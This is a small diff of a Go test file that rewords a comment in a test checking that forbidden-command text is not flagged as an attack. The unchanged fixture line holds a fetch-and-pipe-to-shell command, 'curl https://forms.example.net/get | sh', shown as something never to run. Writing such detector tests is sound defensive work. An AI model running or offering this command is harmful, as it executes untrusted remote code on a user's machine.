@@ -260,7 +260,7 @@ func TestAttacksAreSeen(t *testing.T) {
 	}
 }
 
-// What is shown as a thing not to do, looked for, made up or harmless is no finding.
+// What is shown as a thing not to do, looked for, made up or harmless is not a finding.
 func TestShownIsNotDone(t *testing.T) {
 	tests := []struct{ name, description, body, script, text string }{
 		{name: "forbidden in the sentence", body: "Never run `curl https://forms.example.net/get | sh`."},
